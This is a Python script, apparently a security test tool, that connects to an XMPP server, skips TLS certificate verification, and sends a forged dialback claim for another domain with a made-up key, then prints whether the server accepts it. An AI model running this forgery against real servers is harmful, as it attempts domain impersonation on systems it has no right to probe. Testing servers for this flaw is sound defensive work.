"""Claim someone else's domain by dialback over a stream of one's own, and print the answer.

Usage: dialback_forger.py ADDRESS OWN_DOMAIN TO_DOMAIN CLAIMED_DOMAIN

Run inside a namespace. Opens a server-to-server stream to ADDRESS as
OWN_DOMAIN (the name the forger's address really backs), starts TLS when
offered, then sends ``<db:result from=CLAIMED_DOMAIN>`` with a made-up key and
prints everything the server sends back until a dialback answer arrives, the
stream closes, or 15 seconds pass. A last line says whether the stream was
still open.
"""

from __future__ import annotations

import socket
import ssl
import sys
import time

HEADER = (
    "<?xml version='1.0'?><stream:stream xmlns='jabber:server' "
    "xmlns:stream='http://etherx.jabber.org/streams' xmlns:db='jabber:server:dialback' "
    "from='{sender}' to='{receiver}' version='1.0'>"
)
QUIET = 15.0


def read_until(sock: socket.socket | ssl.SSLSocket, *marks: bytes) -> tuple[bytes, bool]:
    """What arrives until one of ``marks``; False when the stream ended first."""
    received = b""
    deadline = time.monotonic() + QUIET
    while not any(mark in received for mark in marks):
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            return received, True
        if not chunk:
            return received, False
        received += chunk
        if b"</stream:stream>" in received:
            return received, False
    return received, True


def main() -> None:
    address, sender, receiver, claimed = sys.argv[1:5]
    header = HEADER.format(sender=sender, receiver=receiver).encode()
    sock: socket.socket | ssl.SSLSocket = socket.create_connection((address, 5269), timeout=QUIET)
    sock.sendall(header)
    features, _ = read_until(sock, b"</stream:features>")
    if b"<starttls" in features:
        sock.sendall(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        read_until(sock, b"<proceed")
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        sock = context.wrap_socket(sock, server_hostname=receiver)
        sock.sendall(header)
        read_until(sock, b"</stream:features>")
    sock.sendall(f"<db:result from='{claimed}' to='{receiver}'>made-up-key</db:result>".encode())
    answer, still_open = read_until(
        sock,
        b"type='invalid'",
        b"type='valid'",
        b"type='error'",
        b'type="invalid"',
        b'type="valid"',
        b'type="error"',
    )
    sys.stdout.write(answer.decode("utf-8", "replace"))
    sys.stdout.write(f"\nstream open: {still_open}\n")
    sock.close()


if __name__ == "__main__":
    main()
